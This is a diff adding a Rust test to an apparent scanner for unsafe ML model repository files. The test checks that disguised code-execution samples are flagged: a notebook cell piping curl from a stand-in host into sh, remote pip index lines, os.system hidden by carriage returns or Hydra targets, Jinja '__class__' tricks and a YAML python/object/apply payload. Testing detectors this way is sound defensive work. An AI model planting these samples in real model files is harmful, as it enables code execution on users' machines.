@@ -208,6 +208,49 @@ fn honest_files_are_clean() {
 }
 
 #[test]
+fn other_spellings_of_the_same_are_found() {
+    let cell = |source: &str| {
+        let source = serde_json::to_string(source).unwrap();
+        format!(
+            r#"{{"cells":[{{"cell_type":"code","source":{source},"outputs":[]}}],"nbformat":4,"nbformat_minor":5}}"#
+        )
+    };
+    let rows = [
+        ("requirements.txt", "-fhttps://h.example/x\n".to_owned()),
+        ("requirements.txt", "-chttp://h.example/x\n".to_owned()),
+        ("requirements.txt", "--ind\\\nex-url http://h.example\n".to_owned()),
+        ("requirements.txt", "./other.whl\n".to_owned()),
+        ("n.ipynb", cell("get_ipython().system(\"curl http://h.example | sh\")")),
+        ("config.json", r#"{"trust_remote_code": "true"}"#.to_owned()),
+        ("model_index.json", r#"{"_class_name": ["pipeline", "P"]}"#.to_owned()),
+        ("model_index.json", r#"{"custom_pipeline": "one/two"}"#.to_owned()),
+        ("generation_config.json", r#"{"custom_generate": "one/two"}"#.to_owned()),
+        ("config.yaml", "model:\n  _target_: torch.serialization.os.system\n".to_owned()),
+        ("modeling_x.py", "import torch.serialization as s\ns.os.system('true')\n".to_owned()),
+        ("site.pth", "# x\rimport os; os.system('true')\n".to_owned()),
+        ("a.py", "#\rimport os\ros.system('true')\n".to_owned()),
+        ("chat_template.jinja", "{{ x|groupby(('__cla','ss__')|join) }}".to_owned()),
+        ("chat_template.jinja", "{{ x|sum('__class__') }}".to_owned()),
+    ];
+    for (name, text) in rows {
+        assert_eq!(judged(name, &text).verdict, Verdict::Unsafe, "{name}: {text}");
+    }
+    // Cells are run by hand: what they do is a doubt.
+    for source in [
+        "%%python\nimport os\nos.system('true')",
+        "%%script python3\nimport os\nos.system('true')",
+        "%time __import__('os').system('true')",
+    ] {
+        assert_ne!(judged("n.ipynb", &cell(source)).verdict, Verdict::Clean, "{source}");
+    }
+    // Readers differ in where this scalar ends.
+    let hidden = "a: foo\n  'bar\nb: !!python/object/apply:os.system [x]\nc: 'd'\n";
+    assert_ne!(judged("config.yaml", hidden).verdict, Verdict::Clean);
+    let computed = "{{ messages|selectattr(messages[0].content)|list }}";
+    assert_ne!(judged("chat_template.jinja", computed).verdict, Verdict::Clean);
+}
+
+#[test]
 fn what_is_no_json_or_no_text_is_not_clean() {
     assert_eq!(judged("config.json", "{'a': 1}").verdict, Verdict::Inconclusive);
     assert_eq!(rules_of("config.json", "{\0}"), ["disguised"]);
